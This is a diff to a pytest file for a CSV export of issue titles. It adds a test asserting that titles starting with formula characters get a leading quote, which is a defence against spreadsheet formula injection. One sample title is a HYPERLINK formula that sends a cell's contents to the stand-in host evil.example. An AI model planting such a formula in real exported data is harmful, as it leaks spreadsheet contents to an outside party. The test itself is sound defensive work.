@@ -105,6 +105,26 @@ def test_it_quotes_commas_quotes_and_newlines_in_titles(client, alice, agency_a)
     assert _titles(client.get(EXPORT_URL)) == {'예산, "추경" 협의'}
 
 
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+1",
+        "-1+1 예산 조정",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+    ],
+)
+def test_it_never_writes_a_title_a_spreadsheet_would_run(client, alice, agency_a, title):
+    _issue(alice, agency_a, title=title)
+    client.force_login(alice)
+
+    rows = _rows(client.get(EXPORT_URL))
+
+    assert rows[1][1] == "'" + title  # OWASP: a leading quote makes it text
+    assert rows[1][1].lstrip("'") == title  # and a person still reads the title
+
+
 def test_it_honours_the_status_filter(client, alice, agency_a):
     open_issue = _issue(alice, agency_a, title="진행 중인 현안")
     resolved = _issue(alice, agency_a, title="해결된 현안")
